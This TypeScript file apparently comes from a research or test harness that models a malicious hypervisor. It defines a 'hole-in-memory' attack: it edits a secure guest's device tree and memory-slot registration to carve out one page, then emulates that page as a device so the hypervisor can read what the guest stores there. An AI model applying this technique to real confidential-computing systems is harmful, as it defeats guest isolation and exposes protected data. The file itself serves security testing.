import { asCells, cellsValue, findNode, readFdt, writeFdt } from '../../../image/fdt.ts';
import { gpaOf, H_CODE, HCALL, ULTRACALL, UV_PAGE_SIZE, VECTOR } from '../../abi.ts';
import type { Attack } from './attack.ts';
import type { Toolbox } from './toolbox.ts';

const REST_SLOT = 101;
/** Cells of an address, and of a size, in the tree of a pseries guest. */
const CELLS = 2;
const TWO_32 = 2 ** 32;

/**
 * As leave-out-slot, and says the same in the device tree, which nobody vouches for: memory with a hole where the target is. A guest that uses what its image
 * has there would find a device, whose loads and stores the hypervisor answers and reads.
 */
export const holeInMemory: Attack = {
  name: 'hole-in-memory',
  summary: 'have device tree and memory slots agree that a page of the guest is no memory',
  begin: (hv) => {
    /** What the guest stored in the hole, by address: a device that behaves as memory does. */
    const device = new Map<bigint, bigint>();
    let answer: bigint | null = null;
    return {
      booted() {
        if (hv.secure !== null) cutHole(hv);
        hv.did('withholding a page');
      },
      exited({ info }) {
        if (info.vector !== VECTOR.SYSTEM_CALL) return;
        const call = Number(hv.port.gpr(3));
        const [address, value] = [hv.port.gpr(5), hv.port.gpr(6)];
        if (call === HCALL.H_LOGICAL_CI_LOAD) answer = device.get(address) ?? 0n;
        if (call === HCALL.H_LOGICAL_CI_STORE) {
          device.set(address, value);
          hv.takeRegisters([value]);
          answer = 0n;
        }
        if (call !== HCALL.H_SVM_INIT_START) return;
        const [slot] = hv.victim.slots;
        const rest = (slot.baseGfn + slot.npages - hv.target - 1) * UV_PAGE_SIZE;
        const args = [hv.victim.lpid, gpaOf(hv.target) + UV_PAGE_SIZE, rest, 0, REST_SLOT];
        hv.ultracalls({ number: ULTRACALL.UV_REGISTER_MEM_SLOT, args });
      },
      entering() {
        if (answer === null) return;
        hv.port.setGpr(0, BigInt(H_CODE.H_SUCCESS));
        hv.port.setGpr(4, answer);
        answer = null;
      },
      ultracall(number, args) {
        const own = number === ULTRACALL.UV_REGISTER_MEM_SLOT && Number(args[4]) < REST_SLOT;
        return own ? [args[0], args[1], gpaOf(hv.target) - Number(args[1]), ...args.slice(3)] : args;
      },
      line() {
        const page = hv.isSecure() ? undefined : hv.pageOf(hv.target);
        if (page !== undefined) hv.take(page);
      },
    };
  },
};

/** Makes two ranges of the first memory node in the victim's flat tree, without the target. */
function cutHole(hv: Toolbox): void {
  const { tree } = hv.loaded;
  if (tree === null) return;
  const fdt = readFdt(hv.readGuest(tree));
  const properties = findNode(fdt.root, '/memory@0')?.properties;
  const cells = asCells(properties?.get('reg') ?? new Uint8Array(0)).slice(0, 2 * CELLS);
  const end = (cells[2] ?? 0) * TWO_32 + (cells[3] ?? 0);
  const hole = gpaOf(hv.target);
  const after = hole + UV_PAGE_SIZE;
  properties?.set('reg', cellsValue(...cellsOf(0), ...cellsOf(hole), ...cellsOf(after), ...cellsOf(end - after)));
  const room = tree.size - writeFdt(fdt).length;
  hv.writeGuest(tree, writeFdt(fdt, room));
}

function cellsOf(value: number): [number, number] {
  return [Math.floor(value / TWO_32), value % TWO_32];
}
